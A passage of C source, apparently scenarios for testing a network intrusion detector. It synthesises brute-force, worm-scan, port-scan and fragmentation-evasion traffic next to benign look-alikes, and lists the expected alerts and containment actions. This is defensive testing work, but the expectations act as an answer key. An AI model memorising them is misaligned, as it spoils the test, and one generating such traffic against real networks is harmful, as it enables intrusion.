 * is watched within its first minute and contained towards that server's
 * port once there are 20 short connections. */
static void sc_ssh_bruteforce(struct trace *t, struct truth *tr)
{
	struct host *a = Hs(t, "10.1.0.140", ST_LINUX);
	struct host *b = Hs(t, "10.1.0.141", ST_WIN);
	struct host *ssh = Hs(t, "10.2.0.22", ST_LINUX);
	struct host *rdp = Hs(t, "10.2.0.33", ST_WIN);
	int64_t task[4] = {SEC(1), SEC(1) + MS(80), SEC(1) + MS(170), SEC(1) + MS(260)};
	struct t_expect *e;

	bg_office(t, tr, 0, SEC(70), BG2, ARRAY_SIZE(BG2));
	for (unsigned i = 0; i < 32; i++) {
		unsigned j = i % 4;

		task[j] = login(t, task[j], a, ssh, 22, SSH_FAILED, ARRAY_SIZE(SSH_FAILED),
				!rng_pct(&t->rng, 20), rng_pct(&t->rng, 10));
		task[j] += (int64_t)rng_range(&t->rng, MS(50), MS(900));
	}
	e = expect(tr, a, "login-guessing", "watch");
	expect_not_before(e, SEC(1));
	expect_not_after(e, SEC(20));
	expect_ports(e, 1, (const uint16_t[]){22});
	expect_field(e, "evidence.target", "10.2.0.22");
	e = expect(tr, a, "login-bruteforce", "contain");
	expect_ports(e, 1, (const uint16_t[]){22});
	expect_field(e, "evidence.target", "10.2.0.22");
	max_action(tr, a, "contain");

	for (int64_t ts = SEC(2); ts < SEC(60);) {
		ts = login(t, ts, b, rdp, 3389, RDP_FAILED, ARRAY_SIZE(RDP_FAILED), false,
			   rng_pct(&t->rng, 5));
		ts += (int64_t)rng_range(&t->rng, MS(200), MS(1500));
	}
	e = expect(tr, b, "login-bruteforce", "contain");
	expect_ports(e, 1, (const uint16_t[]){3389});
	expect_field(e, "evidence.target", "10.2.0.33");
	max_action(tr, b, "contain");
	/* Each host's two rules, one incident; SSH and RDP guessing, two. */
	one_incident(tr, a);
	one_incident(tr, b);
	no_alert(tr, ssh);
	no_alert(tr, rdp);
	tr->exclusive = true;
}

/* What looks like brute force and is not:
 *   10.1.0.150  configuration management without connection reuse, on
 *               five servers: per task a command, a 42 KiB module put,
 *               a command, every 2-3 s, 20 tasks each;
 *   10.1.0.151  a monitoring check of ssh on one server every minute;
 *   10.1.0.152  a mail client polling IMAPS every 30 s;
 *   10.1.0.153  a person who mistypes the password twice, then works for
 *               five minutes;
 *   10.1.0.154  SMB sessions of a file copy to one server, each long. */
static void sc_bruteforce_look_alikes(struct trace *t, struct truth *tr)
{
	struct host *cm = Hs(t, "10.1.0.150", ST_LINUX);
	struct host *mon = Hs(t, "10.1.0.151", ST_LINUX);
	struct host *mua = Hs(t, "10.1.0.152", ST_WIN);
	struct host *person = Hs(t, "10.1.0.153", ST_WIN);
	struct host *copy = Hs(t, "10.1.0.154", ST_WIN);
	struct host *imap = Hs(t, "10.2.0.25", ST_LINUX);
	struct host *files = Hs(t, "10.2.0.30", ST_WIN);
	struct host *srv[5];
	int64_t ts;

	bg_office(t, tr, 0, SEC(900), BG2, ARRAY_SIZE(BG2));
	for (unsigned i = 0; i < 5; i++)
		srv[i] = host_as(t, a4(10, 2, 0, 40 + i), ST_LINUX);
	for (unsigned i = 0; i < 5; i++) {
		ts = SEC(1) + i * MS(150);
		for (unsigned task = 0; task < 20; task++) {
			ts = login(t, ts, cm, srv[i], 22, SSH_COMMAND, ARRAY_SIZE(SSH_COMMAND),
				   false, false);
			ts = login(t, ts + MS(30), cm, srv[i], 22, SSH_PUT, ARRAY_SIZE(SSH_PUT),
				   false, false);
			ts = login(t, ts + MS(30), cm, srv[i], 22, SSH_COMMAND,
				   ARRAY_SIZE(SSH_COMMAND), false, rng_pct(&t->rng, 3));
			ts += (int64_t)rng_range(&t->rng, MS(300), MS(1200));
		}
	}
	for (unsigned i = 0; i < 15; i++)
		login(t, SEC(5) + i * SEC(60) + (int64_t)rng_range(&t->rng, 0, MS(500)), mon,
		      srv[0], 22, SSH_COMMAND, ARRAY_SIZE(SSH_COMMAND), false, false);
	for (unsigned i = 0; i < 30; i++)
		login(t, SEC(3) + i * SEC(30), mua, imap, 993, HTTPS, ARRAY_SIZE(HTTPS), false,
		      false);
	ts = login(t, SEC(10), person, srv[1], 22, SSH_FAILED, 6, true, false);
	ts = login(t, ts + SEC(4), person, srv[1], 22, SSH_FAILED, 8, true, false);
	{
		struct conn k;

		conn_init(t, &k, person, 0, srv[1], 22, NULL);
		ts = conn_talk(t, ts + SEC(5), &k, SSH_COMMAND, ARRAY_SIZE(SSH_COMMAND), false);
		for (unsigned i = 0; i < 60; i++)
			ts = conn_send(t, ts + SEC(5), &k, i % 2, (const uint8_t *)"keystrokes.",
				       11);
		conn_seg(t, ts, &k, false, TH_FIN | TH_ACK, NULL, 0, NULL);
		conn_seg(t, ts + k.rtt, &k, true, TH_FIN | TH_ACK, NULL, 0, NULL);
	}
	ts = SEC(20);
	for (unsigned i = 0; i < 8; i++) {
		static const struct msg copy_msgs[] = {CLIN(170),   SRVN(250),	 CLIN(162),
						       SRVN(300),   CLIN(14000), CLIN(14000),
						       CLIN(14000), SRVN(90)};
		struct conn k;

		conn_init(t, &k, copy, 0, files, 445, NULL);
		ts = conn_dialog(t, ts, &k, copy_msgs, ARRAY_SIZE(copy_msgs), false);
		ts += SEC(1);
	}
	no_alert(tr, cm);
	no_alert(tr, mon);
	no_alert(tr, mua);
	no_alert(tr, person);
	no_alert(tr, copy);
	tr->exclusive = true;
}

static void sc_one_way_scan(struct trace *t, struct truth *tr)
{
	struct host *ms = Hs(t, "10.1.0.98", ST_LINUX);
	struct host *tg = Hs(t, "203.0.113.50", ST_LINUX);
	struct synstyle sty = {
		.opts = SO_NONE, .win = 1024, .ttl = 255, .random_id = true, .no_df = true};
	uint16_t ports[100];
	int64_t last = 0;

	pick_ports(t, ports, 100, 1, 1000, NULL, 0);
	emit_stp(t, MS(500));
	for (unsigned i = 0; i < 100; i++) {
		last = SEC(1) + i * MS(10);
		tcp_attempt_sty(t, last, ms, 61000, tg, ports[i], OC_SILENT, NULL, 0, 0, &sty);
	}
	/* The capture stops 1 s after the last probe: every outcome of the
	 * scan is a timeout still pending at end of file. */
	emit_stp(t, last + SEC(1));
	expect_not_before(expect(tr, ms, "vertical-scan", "contain"), SEC(1));
	max_action(tr, ms, "contain");
	tr->exclusive = true;
}

static void sc_retransmit(struct trace *t, struct truth *tr)
{
	struct host *h = Hs(t, "10.1.0.96", ST_LINUX);
	struct addr d[9];

	t->dup_all = true;
	bg_office(t, tr, 0, SEC(50), BG2, 1);
	pick_addrs(t, d, 9, POOL_SRV, 1, NULL, 0);
	for (unsigned i = 0; i < 9; i++) {
		int64_t ts = SEC(1) + i * MS(100);

		/* SYN at 0, 1, 3, 7, 15 and 31 s, then the application gives
		 * up and tries again from a new source port. */
		tcp_attempt(t, ts, h, 0, host(t, d[i]), 445, OC_SILENT, NULL, 0, 5);
		if (i % 3 == 0)
			tcp_attempt(t, ts + SEC(40), h, 0, host(t, d[i]), 445, OC_SILENT, NULL, 0,
				    2);
	}
	three_failures(t, tr, Hs(t, "10.1.0.99", ST_LINUX), SEC(2));
	forbid(tr, h, "smb-propagation");
	max_action(tr, h, "contain");
	tr->exclusive = true;
}

/* A passive-mode FTP session: the control connection stays open while
 * each file comes over a data connection to a new server port. */
static void ftp_session(struct trace *t, struct truth *tr, struct host *c, struct host *s,
			int64_t ts, unsigned files)
{
	static const struct msg data[] = {SRVN(2900)};
	struct conn k;
	uint16_t used[64];
	char line[96];

	if (files > ARRAY_SIZE(used))
		die("too many FTP files");
	conn_init(t, &k, c, 0, s, 21, NULL);
	conn_syn(t, ts, &k, NULL);
	k.cseq++;
	conn_synack(t, ts + k.rtt, &k);
	k.sseq++;
	ts += k.rtt + k.crtt;
	conn_seg(t, ts, &k, false, TH_ACK, NULL, 0, NULL);
#define FTP_SAY(from_srv, str) \
	ts = conn_send(t, ts + MS(2), &k, (from_srv), (const uint8_t *)(str), strlen(str))
	FTP_SAY(true, "220 (vsFTPd 3.0.3)\r\n");
	FTP_SAY(false, "USER anonymous\r\n");
	FTP_SAY(true, "331 Please specify the password.\r\n");
	FTP_SAY(false, "PASS guest@\r\n");
	FTP_SAY(true, "230 Login successful.\r\n");
	pick_ports(t, used, files, 50000, 50999, NULL, 0);
	for (unsigned i = 0; i < files; i++) {
		FTP_SAY(false, "PASV\r\n");
		snprintf(line, sizeof(line), "227 Entering Passive Mode (%u,%u,%u,%u,%u,%u).\r\n",
			 s->ip.b[0], s->ip.b[1], s->ip.b[2], s->ip.b[3], used[i] >> 8,
			 used[i] & 0xff);
		FTP_SAY(true, line);
		snprintf(line, sizeof(line), "RETR report-%02u.csv\r\n", i);
		FTP_SAY(false, line);
		ts = tcp_attempt(t, ts + MS(1), c, 0, s, used[i], OC_OPEN, data, ARRAY_SIZE(data),
				 0);
		FTP_SAY(true, "150 Opening BINARY mode data connection.\r\n");
		FTP_SAY(true, "226 Transfer complete.\r\n");
	}
	FTP_SAY(false, "QUIT\r\n");
	FTP_SAY(true, "221 Goodbye.\r\n");
#undef FTP_SAY
	conn_seg(t, ts + MS(1), &k, false, TH_FIN | TH_ACK, NULL, 0, NULL);
	conn_seg(t, ts + MS(1) + k.rtt, &k, true, TH_FIN | TH_ACK, NULL, 0, NULL);
	conn_seg(t, ts + MS(1) + k.rtt + k.crtt, &k, false, TH_ACK, NULL, 0, NULL);
	no_alert(tr, c);
	no_alert(tr, s);
}

static void sc_benign_browser(struct trace *t, struct truth *tr)
{
	static const struct msg imap[] = {CLIN(517),  SRVN(3900), CLIN(180),
					  SRVN(1200), CLIN(90),	  SRVN(5200)};
	static const struct msg ldap[] = {CLIN(1320), SRVN(240), CLIN(96), SRVN(1800)};
	static const struct msg krb[] = {CLIN(1520), SRVN(1460)};
	struct host *res = Hs(t, "10.1.0.53", ST_LINUX);
	struct host *br = Hs(t, "10.1.0.100", ST_WIN);
	struct host *svc = Hs(t, "10.1.0.101", ST_WIN);
	struct host *fc = Hs(t, "10.1.0.102", ST_LINUX);
	struct host *dc = Hs(t, "10.1.0.10", ST_WIN);
	struct host *fs = Hs(t, "10.1.5.10", ST_WIN);
	struct host *up[20];
	struct addr servers[45];
	uint8_t ntp[48];
	char name[64];

	/* The resolver: 200 clients ask it, it recurses to 20 servers. */
	for (unsigned i = 0; i < 20; i++)
		up[i] = host_as(t, i % 2 ? a4(203, 0, 113, 200 + i) : a4(198, 51, 100, 200 + i),
				ST_LINUX);
	for (unsigned i = 0; i < 200; i++) {
		struct host *c = host(t, a4(10, 1, 10, i + 1));
		int64_t ts = (int64_t)rng_range(&t->rng, 0, SEC(25));

		for (unsigned q = 0; q < 1 + i % 2; q++) {
			snprintf(name, sizeof(name), "host%u.corp%u.example", i, q);
			dns_lookup(t, ts, c, res, name, 1,
				   i < 20 && q == 0	  ? up[i]
				   : rng_pct(&t->rng, 25) ? up[rng_next(&t->rng) % 20]
							  : NULL);
			ts += (int64_t)rng_range(&t->rng, MS(200), SEC(4));
		}
		if (i < 10)
			no_alert(tr, c);
	}
	no_alert(tr, res);

	/* A browser: 60 HTTPS connections to 45 servers in 10 s, some QUIC. */
	pick_addrs(t, servers, 45, POOL_PUB, 2, NULL, 0);
	for (unsigned i = 0; i < 60; i++) {
		int64_t ts = SEC(2) + i * MS(165) + (int64_t)rng_range(&t->rng, 0, 50000);
		struct host *s = host(t, servers[i < 45 ? i : (i * 7) % 45]);

		snprintf(name, sizeof(name), "site%u.example.com", i < 45 ? i : (i * 7) % 45);
		if (i < 45)
			ts = dns_lookup(t, ts, br, res, name, 1, NULL);
		tcp_attempt(t, ts + 100, br, 0, s, 443, OC_OPEN, HTTPS, ARRAY_SIZE(HTTPS), 0);
		if (i % 12 == 0)
			quic_flow(t, ts + MS(30), br, s);
	}

	/* A client of many services. */
	for (unsigned i = 0; i < 3; i++) {
		int64_t ts = SEC(1) + i * SEC(8);

		dns_lookup(t, ts, svc, res, "dc01.corp.example", 1, NULL);
		tcp_attempt(t, ts + MS(5), svc, 0, dc, 88, OC_OPEN, krb, ARRAY_SIZE(krb), 0);
		tcp_attempt(t, ts + MS(40), svc, 0, dc, 389, OC_OPEN, ldap, ARRAY_SIZE(ldap), 0);
		tcp_attempt(t, ts + MS(90), svc, 0, fs, 445, OC_OPEN, SMB_SESSION,
			    ARRAY_SIZE(SMB_SESSION), 0);
		tcp_attempt(t, ts + MS(300), svc, 0, H(t, "203.0.113.25"), 993, OC_OPEN, imap,
			    ARRAY_SIZE(imap), 0);
		memset(ntp, 0, sizeof(ntp));
		ntp[0] = 0xe3;
		udp_emit(t, ts + MS(500), svc, 123, dc, 123, ntp, 48, NULL);
		ntp[0] = 0x24;
		udp_emit(t, ts + MS(501), dc, 123, svc, 123, ntp, 48, NULL);
		ntp[0] = 0xe3;
		udp_emit(t, ts + MS(600), svc, 123, H(t, "198.51.100.123"), 123, ntp, 48, NULL);
		ntp[0] = 0x24;
		udp_emit(t, ts + MS(600) + path_rtt(H(t, "198.51.100.123")), H(t, "198.51.100.123"),
			 123, svc, 123, ntp, 48, NULL);
	}
	/* Passive FTP: 40 data connections to 40 ports of one server. */
	ftp_session(t, tr, fc, Hs(t, "10.2.0.21", ST_LINUX), SEC(1), 40);

	no_alert(tr, br);
	no_alert(tr, svc);
	no_alert(tr, dc);
	no_alert(tr, fs);
	tr->exclusive = true;
}

static void sc_traceroute(struct trace *t, struct truth *tr)
{
	struct host *h = Hs(t, "10.1.0.70", ST_LINUX);
	struct host *dst = Hs(t, "203.0.113.80", ST_LINUX);
	uint16_t sport = eport(h);
	uint8_t payload[32];

	for (unsigned i = 0; i < sizeof(payload); i++)
		payload[i] = (uint8_t)(0x40 + i);
	bg_office(t, tr, 0, SEC(6), BG2, ARRAY_SIZE(BG2));
	/* traceroute -N 16: 3 probes per hop, 16 in flight, ports 33434 up;
	 * the destination is 17 hops away, probes were sent to hop 20. */
	for (unsigned p = 0; p < 60; p++) {
		unsigned hop = p / 3 + 1;
		int64_t ts = SEC(1) + (p / 16) * MS(120) + (p % 16) * MS(1);
		struct ip_fields f = ipf(h, dst, IPPROTO_UDP);
		struct pb l4, ip, quoted;
		struct host *r;

		f.ttl = (uint8_t)hop;
		udp_build(&l4, sport, (uint16_t)(33434 + p), payload, sizeof(payload));
		ip_packet(&ip, &f, &l4);
		emit_ip(t, ts, &ip);
		if (hop == 6 || (hop == 11 && p % 3 == 1))
			continue; /* * * * */
		quoted = ip;
		if (hop >= 17) {
			icmp_error(t, ts + path_rtt(dst), dst, h, 3, 3, &quoted, 548);
			continue;
		}
		r = hop == 1 ? gateway(t) : host(t, a4(198, 51, 100, 150 + hop));
		ip_set_ttl(quoted.b, 1);
		icmp_error(t, ts + hop * MS(3) + (int64_t)rng_range(&t->rng, 0, 900), r, h, 11, 0,
			   &quoted, 28);
	}
	no_alert(tr, h);
	no_alert(tr, gateway(t));
	tr->exclusive = true;
}

/* A link-local IPv6 address for a LAN host, sharing its MAC. */
static struct host *ll6(struct trace *t, struct host *h)
{
	struct addr a = addr_lit("fe80::");
	struct host *l;

	memcpy(a.b + 8, h->mac, 3);
	a.b[8] ^= 0x02;
	a.b[11] = 0xff;
	a.b[12] = 0xfe;
	memcpy(a.b + 13, h->mac + 3, 3);
	l = host_as(t, a, (enum stack)h->stack);
	memcpy(l->mac, h->mac, 6);
	return l;
}

/* A BOOTP/DHCP message of the given type (53 option) from a client MAC. */
static size_t dhcp_msg(uint8_t *out, size_t cap, uint8_t op, uint32_t xid, const uint8_t mac[6],
		       struct addr yiaddr, uint8_t type)
{
	struct pb p = {.n = 0};

	pb_u8(&p, op);
	pb_u8(&p, 1);
	pb_u8(&p, 6);
	pb_u8(&p, 0);
	pb_u32(&p, xid);
	pb_u16(&p, 0);
	pb_u16(&p, 0x8000); /* broadcast flag */
	pb_zero(&p, 4);
	pb_bytes(&p, yiaddr.b, 4);
	pb_zero(&p, 8);
	pb_bytes(&p, mac, 6);
	pb_zero(&p, 10 + 64 + 128);
	pb_u32(&p, 0x63825363);
	pb_u8(&p, 53);
	pb_u8(&p, 1);
	pb_u8(&p, type);
	pb_u8(&p, 255);
	while (p.n < 300)
		pb_u8(&p, 0);
	if (p.n > cap)
		die("DHCP message too long");
	memcpy(out, p.b, p.n);
	return p.n;
}

/* An IGMPv3 membership report for group, with the Router Alert option. */
static void igmp_report(struct trace *t, int64_t ts, struct host *h, struct addr group)
{
	struct host g;
	struct ip_fields f;
	struct pb l4 = {.n = 0}, ip;

	memset(&g, 0, sizeof(g));
	g.ip = addr_lit("224.0.0.22");
	f = ipf(h, &g, 2);
	f.ttl = 1;
	f.ra = true;
	f.tos = 0xc0;
	pb_u8(&l4, 0x22);
	pb_u8(&l4, 0);
	pb_u16(&l4, 0);
	pb_u16(&l4, 0);
	pb_u16(&l4, 1);
	pb_u8(&l4, 4); /* CHANGE_TO_EXCLUDE: join */
	pb_u8(&l4, 0);
	pb_u16(&l4, 0);
	pb_bytes(&l4, group.b, 4);
	put16_at(l4.b + 2, csum_fold(csum_add(0, l4.b, l4.n)));
	ip_wrap(&ip, &f, l4.b, l4.n);
	emit_ip(t, ts, &ip);
}

static const char SSDP_MSEARCH[] = "M-SEARCH * HTTP/1.1\r\nHOST: 239.255.255.250:1900\r\n"
				   "MAN: \"ssdp:discover\"\r\nMX: 1\r\nST: ssdp:all\r\n\r\n";

static void sc_broadcast_noise(struct trace *t, struct truth *tr)
{
	static const char wsd[] = "<?xml version=\"1.0\" encoding=\"utf-8\"?><soap:Envelope "
				  "xmlns:soap=\"http://www.w3.org/2003/05/soap-envelope\"><soap:"
				  "Body><wsd:Probe/></soap:Body></soap:Envelope>";
	struct host *gw = gateway(t);
	struct host *printer = Hs(t, "10.1.3.100", ST_LINUX);
	uint8_t b[512];
	size_t n;

	for (unsigned i = 1; i <= 20; i++) {
		struct host *h = host(t, a4(10, 1, 3, i));
		struct host *l = ll6(t, h);
		int64_t ts = (int64_t)rng_range(&t->rng, 0, SEC(2));

		if (i <= 5) {
			/* DHCP from 0.0.0.0 before the host has its address */
			uint32_t xid = (uint32_t)rng_next(&t->rng);
			struct ip_fields f;
			struct host any, bc;
			struct pb l4, ip;

			memset(&any, 0, sizeof(any));
			memset(&bc, 0, sizeof(bc));
			any.ip = a4(0, 0, 0, 0);
			any.ttl = 128;
			bc.ip = a4(255, 255, 255, 255);
			for (uint8_t type = 1; type <= 4; type++) {
				bool from_srv = type == 2 || type == 4;
				uint8_t mt = type == 1 ? 1 : type == 2 ? 2 : type == 3 ? 3 : 5;

				n = dhcp_msg(b, sizeof(b), from_srv ? 2 : 1, xid, h->mac,
					     from_srv ? h->ip : any.ip, mt);
				f = ipf(from_srv ? gw : &any, &bc, IPPROTO_UDP);
				udp_build(&l4, from_srv ? 67 : 68, from_srv ? 68 : 67, b, n);
				ip_packet(&ip, &f, &l4);
				emit_ip_l2(t, ts, &ip, from_srv ? MAC_GW : h->mac, MAC_BCAST);
				ts += MS(3);
			}
		}
		for (unsigned rep = 0; rep < 3;
		     rep++, ts += SEC(9) + (int64_t)rng_range(&t->rng, 0, SEC(2))) {
			n = dns_msg(b, sizeof(b), (uint16_t)rng_next(&t->rng), false, "WPAD", 32,
				    NULL, 0);
			udp_group(t, ts, h, 137, addr_lit("10.1.255.255"), 137, b, n);
			fill_random(t, b, 220);
			b[0] = 0x11; /* direct group datagram */
			udp_group(t, ts + MS(20), h, 138, addr_lit("10.1.255.255"), 138, b, 220);
			n = dns_msg(b, sizeof(b), 0, false, "_googlecast._tcp.local", 12, NULL, 0);
			udp_group(t, ts + MS(40), h, 5353, addr_lit("224.0.0.251"), 5353, b, n);
			udp_group(t, ts + MS(41), l, 5353, addr_lit("ff02::fb"), 5353, b, n);
			udp_group(t, ts + MS(60), h, eport(h), addr_lit("239.255.255.250"), 1900,
				  (const uint8_t *)SSDP_MSEARCH, strlen(SSDP_MSEARCH));
			n = dns_msg(b, sizeof(b), (uint16_t)rng_next(&t->rng), false, "fileserver",
				    1, NULL, 0);
			udp_group(t, ts + MS(80), h, eport(h), addr_lit("224.0.0.252"), 5355, b, n);
			udp_group(t, ts + MS(81), l, eport(h), addr_lit("ff02::1:3"), 5355, b, n);
			udp_group(t, ts + MS(100), h, eport(h), addr_lit("239.255.255.250"), 3702,
				  (const uint8_t *)wsd, strlen(wsd));
			fill_random(t, b, 60);
			b[0] = 1; /* DHCPv6 SOLICIT */
			udp_group(t, ts + MS(120), l, 546, addr_lit("ff02::1:2"), 547, b, 60);
			igmp_report(t, ts + MS(140), h, addr_lit("239.255.255.250"));
			if (rep == 0) {
				/* the printer answers the mDNS question to the group */
				n = dns_msg(b, sizeof(b), 0, true, "_googlecast._tcp.local", 12,
					    (const uint8_t *)"\x07printer\xc0\x0c", 10);
				udp_group(t, ts + MS(45), printer, 5353, addr_lit("224.0.0.251"),
					  5353, b, n);
			}
		}
		no_alert(tr, h);
		no_alert(tr, l);
	}
	no_alert(tr, printer);
	no_alert(tr, gw);
	tr->exclusive = true;
}

static void sc_multicast_responders(struct trace *t, struct truth *tr)
{
	static const char ok[] =
		"HTTP/1.1 200 OK\r\nCACHE-CONTROL: max-age=1800\r\nEXT:\r\n"
		"LOCATION: http://10.1.3.250:49152/rootDesc.xml\r\nSERVER: Linux/5.4 "
		"UPnP/1.1 MiniUPnPd/2.2\r\nST: upnp:rootdevice\r\nUSN: "
		"uuid:7c5b7a26-1d3f-4c1e-9b1a-0a1b2c3d4e5f::upnp:rootdevice\r\n\r\n";
	static const struct msg desc[] = {
		CLI("GET /rootDesc.xml HTTP/1.1\r\nHost: 10.1.3.250:49152\r\n\r\n"), SRVN(2300)};
	struct host *upnp = Hs(t, "10.1.3.250", ST_LINUX);
	struct host *printer = Hs(t, "10.1.3.100", ST_LINUX);
	uint8_t b[512];
	size_t n;

	for (unsigned i = 1; i <= 20; i++) {
		struct host *h = host(t, a4(10, 1, 3, i));
		int64_t ts = SEC(1) + i * MS(400) + (int64_t)rng_range(&t->rng, 0, 300000);
		uint16_t sp = eport(h);

		/* SSDP search to the group, answered unicast by the router. */
		udp_group(t, ts, h, sp, addr_lit("239.255.255.250"), 1900,
			  (const uint8_t *)SSDP_MSEARCH, strlen(SSDP_MSEARCH));
		udp_emit(t, ts + (int64_t)rng_range(&t->rng, MS(10), MS(900)), upnp, 1900, h, sp,
			 (const uint8_t *)ok, strlen(ok), NULL);
		tcp_attempt(t, ts + SEC(1), h, 0, upnp, 49152, OC_OPEN, desc, ARRAY_SIZE(desc), 0);
		/* mDNS question with the QU bit, answered unicast. */
		n = dns_msg(b, sizeof(b), 0, false, "_ipp._tcp.local", 12, NULL, 0);
		b[n - 2] = 0x80; /* class IN | unicast-response */
		udp_group(t, ts + MS(1500), h, 5353, addr_lit("224.0.0.251"), 5353, b, n);
		n = dns_msg(b, sizeof(b), 0, true, "_ipp._tcp.local", 12,
			    (const uint8_t *)"\x07printer\xc0\x0c", 10);
		udp_emit(t, ts + MS(1503), printer, 5353, h, 5353, b, n, NULL);
		no_alert(tr, h);
	}
	no_alert(tr, upnp);
	no_alert(tr, printer);
	tr->exclusive = true;
}

static void sc_critical_asset(struct trace *t, struct truth *tr)
{
	struct host *fs = Hs(t, "10.1.5.10", ST_WIN);
	struct wscan w = smb_scan(fs, SEC(2), SEC(20), MS(50));
	struct t_expect *e;

	conf(tr, "inventory = (\n"
		 "  { net = \"10.1.5.10/32\"; name = \"fileserver\"; department = \"it\";"
		 " floor = \"1\"; critical = true; }\n"
		 ");\n");
	bg_office(t, tr, 0, SEC(20), BG2, ARRAY_SIZE(BG2));
	worm_scan(t, &w);
	e = expect(tr, fs, "smb-propagation", "contain");
	expect_not_before(e, SEC(2));
	expect_field(e, "name", "fileserver");
	max_action(tr, fs, "contain");
	tr->exclusive = true;
}

static void sc_never_block(struct trace *t, struct truth *tr)
{
	struct host *dc = Hs(t, "10.1.0.1", ST_WIN);
	struct wscan w = smb_scan(dc, SEC(2), SEC(20), MS(50));
	struct t_expect *e;

	conf(tr, "networks: {\n"
		 "  protected = [ \"10.0.0.0/8\", \"172.16.0.0/12\", \"192.168.0.0/16\","
		 " \"fc00::/7\" ];\n"
		 "  never_block = [ \"10.1.0.1\" ];\n"
		 "};\n");
	bg_office(t, tr, 0, SEC(20), BG2, ARRAY_SIZE(BG2));
	worm_scan(t, &w);
	e = expect(tr, dc, "smb-propagation", "isolate");
	expect_not_before(e, SEC(2));
	expect_field(e, "why", "never-block");
	never_block(tr, dc);
	tr->exclusive = true;
}

static void sc_outside_scanner(struct trace *t, struct truth *tr)
{
	struct host *sc = Hs(t, "198.51.100.7", ST_LINUX);
	struct synstyle sty = {.opts = SO_NONE, .win = 1024, .random_id = true, .no_df = true};
	uint16_t sport = (uint16_t)rng_range(&t->rng, 30000, 60000);

	bg_office(t, tr, 0, SEC(8), BG2, ARRAY_SIZE(BG2));
	for (unsigned i = 1; i < 255; i++) {
		struct host *v = host(t, a4(10, 1, 0, i));
		int64_t ts = SEC(1) + i * MS(20);
		enum outcome oc = i % 6 != 0 ? OC_SILENT : i % 30 == 0 ? OC_OPEN_RST : OC_RST;

		/* the victims' answers (RST, or SYN-ACK then the scanner's
		 * RST) must never count as probes of theirs */
		tcp_attempt_sty(t, ts, sc, sport, v, 445, oc, NULL, 0, 0, &sty);
		if (oc != OC_SILENT)
			no_alert(tr, v);
	}
	no_alert(tr, sc);
	tr->exclusive = true;
}

static void sc_linktype(struct trace *t, struct truth *tr)
{
	small_worm(t, tr, SEC(1));
}

static void sc_fragments(struct trace *t, struct truth *tr)
{
	struct host *w = Hs(t, "10.1.0.110", ST_WIN);
	struct host *o = Hs(t, "10.1.0.112", ST_LINUX);
	struct host *v = Hs(t, "fd00:1::11", ST_LINUX);
	struct host *gw6 = Hs(t, "fd00:1::1", ST_LINUX);
	struct addr d[30];
	uint8_t opt[40], data[16], ike[1800];
	struct pb l4;

	memcpy(gw6->mac, MAC_GW, 6);
	bg_office(t, tr, 0, SEC(12), BG2, ARRAY_SIZE(BG2));

	/* SMB worm whose SYNs (with 16 bytes of data) are split after the
	 * TCP header; the non-first fragment carries no ports. */
	pick_addrs(t, d, 12, POOL_SRV, 1, NULL, 0);
	for (unsigned i = 0; i < 12; i++) {
		struct host *s = host(t, d[i]);
		struct conn k;
		struct tcp_fields tf;
		int64_t ts = SEC(2) + i * MS(200);
		int tries = i % 4 >= 2 ? 3 : 1;

		conn_init(t, &k, w, 0, s, 445, NULL);
		memset(&tf, 0, sizeof(tf));
		tf.sport = k.sport;
		tf.dport = 445;
		tf.seq = k.cseq;
		tf.flags = TH_SYN;
		tf.win = 8192;
		tf.optlen = syn_options(w, false, false, 0, opt);
		tf.opt = opt;
		fill_random(t, data, sizeof(data));
		tf.data = data;
		tf.dlen = sizeof(data);
		for (int r = 0; r < tries; r++) {
			struct ip_fields f = ipf(w, s, IPPROTO_TCP);

			tcp_build(&l4, &tf);
			emit_fragmented(t, ts + syn_rto(w, r), f, &l4, 32);
		}
		if (i % 4 == 0) {
			k.cseq += sizeof(data); /* the RST acknowledges the data too */
			conn_refuse(t, ts + k.rtt, &k);
		} else if (i % 4 == 1) {
			k.cseq++;
			conn_synack(t, ts + k.rtt, &k);
			conn_seg(t, ts + k.rtt + k.crtt, &k, false, TH_RST, NULL, 0, NULL);
		}
	}

	/* Orphan non-first fragments whose bytes look like a SYN to 445. */
	pick_addrs(t, d, 15, POOL_SRV, 1, NULL, 0);
	for (unsigned i = 0; i < 15; i++) {
		struct host *s = host(t, d[i]);
		struct ip_fields f = ipf(o, s, IPPROTO_TCP);
		struct tcp_fields tf;
		struct pb ip;

		memset(&tf, 0, sizeof(tf));
		tf.sport = eport(o);
		tf.dport = 445;
		tf.seq = (uint32_t)rng_next(&t->rng);
		tf.flags = TH_SYN;
		tf.win = 8192;
		tcp_build(&l4, &tf);
		pb_zero(&l4, 4);
		f.df = false;
		f.fragoff = 3;
		ip_wrap(&ip, &f, l4.b, l4.n);
		emit_ip(t, SEC(5) + i * MS(100), &ip);
	}

	/* IPv6 IKE_SA_INIT to 30 VPN gateways, fragmented, all answered. */
	nd_exchange(t, SEC(1), v, gw6);
	for (unsigned i = 0; i < 30; i++) {
		char s6[48];
		struct host *g;
		struct ip_fields f;
		int64_t ts = SEC(6) + i * MS(150);

		snprintf(s6, sizeof(s6), "2001:db8:%x::1", 0x100 + i);
		g = host(t, addr_lit(s6));
		fill_random(t, ike, sizeof(ike));
		memset(ike + 16, 0, 4);
		ike[17] = 0x21; /* next payload SA, version 2.0 */
		ike[18] = 0x20;
		ike[19] = 34; /* IKE_SA_INIT */
		f = ipf(v, g, IPPROTO_UDP);
		udp_build(&l4, 500, 500, ike, sizeof(ike));
		emit_fragmented(t, ts, f, &l4, 1448);
		udp_emit(t, ts + path_rtt(g), g, 500, v, 500, ike, 456, NULL);
	}

	expect_not_before(expect(tr, w, "smb-propagation", "isolate"), SEC(2));
	no_alert(tr, o);
	no_alert(tr, v);
	no_alert(tr, gw6);
	tr->exclusive = true;
}

static void sc_outbreak(struct trace *t, struct truth *tr)
{
	static const char *const office[] = {"10.1.1.40", "10.1.1.41", "10.1.2.50",
					     "10.1.2.51", "10.1.1.60", "10.1.2.61"};
	struct host *pz = Hs(t, "10.1.1.23", ST_WIN);
	struct host *f2 = Hs(t, "10.1.1.31", ST_WIN);
	struct host *fs = Hs(t, "10.1.1.5", ST_WIN);
	struct host *s1 = Hs(t, "10.1.2.14", ST_WIN);
	struct host *s2 = Hs(t, "10.1.2.40", ST_WIN);
	struct host *cam = Hs(t, "10.1.4.50", ST_LINUX);
	struct host *mon = Hs(t, "10.1.9.5", ST_LINUX);
	struct host *res = Hs(t, "10.1.0.53", ST_LINUX);
	struct host *tg[60];
	bool ans[60];
	struct wscan w;
	struct t_expect *e;

